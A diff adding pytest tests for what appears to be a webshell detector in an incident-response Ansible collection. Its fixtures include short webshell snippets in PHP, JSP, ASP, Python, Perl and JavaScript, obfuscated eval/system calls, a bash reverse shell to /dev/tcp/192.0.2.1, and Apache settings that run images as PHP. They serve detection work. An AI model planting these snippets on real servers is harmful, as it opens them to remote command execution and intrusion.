@@ -1,0 +1,163 @@
+# Copyright (c) 2026, the csirt.linux_triage authors
+# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""What is seen in scripts: the way of values from the request to what runs them, and nothing where there is none."""
+
+from __future__ import absolute_import, division, print_function
+
+__metaclass__ = type
+
+import zlib
+
+import pytest
+
+from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._code import read_code
+from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._facts import Facts
+from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._php import read_php
+from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._php_tokens import php_tokens
+from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._settings import read_settings
+from ansible_collections.csirt.linux_triage.plugins.module_utils._webshell._shell import read_shell
+
+
+def php(code):
+    facts = Facts()
+    read_php("<?php " + code, facts, lambda: None)
+    return facts
+
+
+def told(facts):
+    """The names of facts with a source, and of what is hidden."""
+    return sorted(name for name in facts.places if "." in name or "hidden" in name)
+
+
+@pytest.mark.parametrize("code, expected", [
+    ("eval($_POST['x']);", ["code.request"]),
+    ("$a = $_GET['a']; $b = trim($a); system(\"ls $b\");", ["command.request"]),
+    ("`{$_COOKIE['c']}`;", ["command.request"]),
+    ("$f = 'sys' . 'tem'; $f($_GET[1]);", ["command.request", "hidden_name"]),
+    ("$_GET['a']($_GET['b']);", ["call.request", "call.request_both"]),
+    ("function r($x) { return shell_exec($x); } echo r($_GET['x']);", ["command.request"]),
+    ("echo r($_GET['x']); function r($x) { return shell_exec($x); }", ["command.request"]),
+    ("class A { private $p; function __construct($p) { $this->p = $p; } function go() { eval($this->p); } } (new A($_GET[0]))->go();",
+     ["code.request"]),
+    ("array_map(function ($c) { exec($c); }, $_POST);", ["command.request"]),
+    ("foreach ($_POST as $k => $v) { $$k = $v; } eval($unknown);", ["code.request"]),
+    ("extract($_REQUEST); include $page;", ["include.request"]),
+    ("if (preg_match('/x(.*)/', $_SERVER['HTTP_REFERER'], $m)) eval($m[1]);", ["code.request"]),
+    ("list($f, $a) = explode('|', $_POST['z']); $f($a);", ["call.request", "call.request_both"]),
+    ("$x = isset($_GET['x']) ? $_GET['x'] : 'id'; if ($y) { $x = 'uptime'; } passthru($x);", ["command.request"]),
+    ("$v = ${'_' . 'GET'}; eval($v[0]);", ["code.request", "hidden_variable"]),
+    ("preg_replace('/a/e', $_GET['r'], 'a');", ["code.request"]),
+    ("eval(gzuncompress(base64_decode(strrev('" + __import__("base64").b64encode(zlib.compress(b"system($_GET[1]);")).decode()[::-1] + "'))));",
+     ["code.decoded", "command.request", "hidden_code"]),
+    ("include $_FILES['f']['tmp_name'];", ["include.upload"]),
+    ("file_put_contents('x.php', $_POST['c']);", ["drop_script.request", "write_content.request"]),
+    ("$s = \"a{$_GET['b']}c\"; system($s);", ["command.request"]),
+    ("/* \" */ $x = 'it\\'s'; # ' \n eval($_GET['q']); // ?>", ["code.request"]),
+])
+def test_values_are_followed(code, expected):
+    assert told(php(code)) == expected
+
+
+@pytest.mark.parametrize("code", [
+    "$c = (int) $_GET['c']; system(\"kill $c\");",
+    "system('ls ' . escapeshellarg($_GET['d']));",
+    "$x = $_GET['x'] == 'a' ? 'one.php' : 'two.php'; include $x;",
+    "$db->exec($_POST['sql']); $process->system($_GET['x']);",
+    "assert($request instanceof Request); assert(count($_GET) > 1);",
+    "$name = $_POST['name']; $name = filter($name); eval('return 1;'); echo htmlspecialchars($_GET['q']);",
+    "if (isset($_POST['x'])) { exec('sync'); }",
+    "call_user_func(array($this, 'on' . ucfirst($event)), $_POST['x']);",
+    "\"eval(\\$_POST['x'])\"; // eval($_POST['x'])\n/* system($_GET[1]) */",
+    "function eval_template($_template) { include $_template; } eval_template('page.php');",
+    "function a($cmd) { exec($cmd); } a('uptime');",
+])
+def test_what_leaves_the_client_no_choice_is_not_told(code):
+    assert not [name for name in told(php(code)) if name.startswith(("code", "command", "include", "call", "hidden"))]
+
+
+def test_lines_are_those_of_the_file():
+    facts = Facts()
+    read_php("<html>\n\n<?php\n$a = 1;\n\neval($_GET['x']);\n?>\n<?= `$_GET[0]` ?>", facts, lambda: None)
+    assert [place.line for place in facts.places["code.request"]] == [6]
+    assert [place.line for place in facts.places["command.request"]] == [8]
+
+
+def test_templates_have_code_in_them():
+    tokens = [(kind, value) for kind, value, _position in php_tokens("\"a${b('c')}d\";", True)]
+    assert ("n", "b") in tokens and ("s", "c") in tokens and ("s", "d") in tokens
+
+
+@pytest.mark.parametrize("language, code, expected", [
+    ("jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "command.request"),
+    ("jsp", "<%! String r(String c) throws Exception { return x(Runtime.getRuntime().exec(c)); } %><%= r(request.getHeader(\"h\")) %>",
+     "command.request"),
+    ("jsp", "<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>", "command.request"),
+    ("jsp", "<% new L(x).defineClass(java.util.Base64.getDecoder().decode(request.getParameter(\"b\"))); %>", "load.request"),
+    ("jsp", "${Runtime.getRuntime().exec(param.c)}", "command.request"),
+    ("asp", "<%eval request(\"x\")%>", "code.request"),
+    ("asp", "<% Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Exec(\"cmd /c \" & Request(\"c\"))\n%>", "command.request"),
+    ("asp", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", Request[\"c\"]); %>", "command.request"),
+    ("python", "import os, cgi\nf = cgi.FieldStorage()\nos.system(f.getvalue('c'))\n", "command.request"),
+    ("python", "def run(line):\n    import os\n    os.popen(line)\n\nrun(request.args['x'])\n", "command.request"),
+    ("python", "getattr(__import__('o' + 's'), 'sys' + 'tem')(1)\n", "hidden_name"),
+    ("perl", "my $q = CGI->new; my $c = $q->param('c'); print `$c`;", "command.request"),
+    ("perl", "read(STDIN, $b, $ENV{CONTENT_LENGTH}); eval $b;", "code.request"),
+    ("js", "const cp = require('child_process'); cp.exec(req.query.c);", "command.request"),
+])
+def test_values_are_followed_in_other_languages(language, code, expected):
+    facts = Facts()
+    facts.begin(code)
+    read_code(code, language, facts)
+    assert expected in facts.places
+
+
+@pytest.mark.parametrize("language, code", [
+    ("jsp", "<% String n = request.getParameter(\"n\"); out.println(n); if (\"x\".equals(n)) Runtime.getRuntime().exec(\"sync\"); %>"),
+    ("jsp", "<%-- Runtime.getRuntime().exec(request.getParameter(\"c\")) --%>"),
+    ("python", "import os\nhome = os.environ['HOME']\nos.system('ls ' + home)\n"),
+    ("python", "# os.system(request.args['x'])\nx = '''os.system(request.args)'''\n"),
+    ("perl", "system(\"ls $ENV{HOME}\"); # system(param('x'))\n$x =~ s/'//; print param('y');"),
+    ("js", "/a(b)/.exec(req.url); // eval(req.query)\n"),
+])
+def test_other_languages_have_clean_code(language, code):
+    facts = Facts()
+    facts.begin(code)
+    read_code(code, language, facts)
+    assert not [name for name in facts.places if name.endswith(".request")]
+
+
+@pytest.mark.parametrize("code, expected", [
+    ("#!/bin/sh\necho 'Content-type: text/plain'\neval \"$QUERY_STRING\"", "command.request"),
+    ("#!/bin/sh\nc=$(echo $HTTP_X | cut -c2-)\n$c", "command.request"),
+    ("#!/bin/sh\necho Content-type: x\nread -n $CONTENT_LENGTH b\nsh -c \"$b\"", "command.request"),
+    ("#!/bin/sh\necho x | base64 -d | sh", "command.decoded"),
+    ("#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1", "reverse_shell"),
+    ("#!/bin/sh\n# eval $QUERY_STRING\necho \"$QUERY_STRING\"", "request"),
+])
+def test_shell_scripts(code, expected):
+    facts = Facts()
+    facts.begin(code)
+    read_shell(code, facts)
+    assert expected in facts.places
+    assert ("command.request" in facts.places) == (expected == "command.request")
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("AddType application/x-httpd-php .jpg", ["handler.disguised"]),
+    ("AddHandler application/x-httpd-php .php .phtml", []),
+    ("<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>", []),
+    ("<FilesMatch \"\\.gif$\">\nSetHandler application/x-httpd-php\n</FilesMatch>", ["handler.disguised"]),
+    ("SetHandler application/x-httpd-php", ["handler.everything"]),
+    ("auto_prepend_file = 1.gif", ["setting.hidden_prepend"]),
+    ("php_value auto_prepend_file \"/srv/www/waf.php\"", ["setting.prepend"]),
+    ("php_value auto_prepend_file none", []),
+    ("; auto_prepend_file = 1.gif\n# AddType application/x-httpd-php .jpg", []),
+    ("RewriteEngine On\nRewriteRule . /index.php [L]\n<Files ~ \"^\\.ht\">\nDeny from all\n</Files>", []),
+])
+def test_settings_of_folders(text, expected):
+    facts = Facts()
+    facts.begin(text)
+    read_settings(text, facts)
+    assert sorted(facts.places) == expected
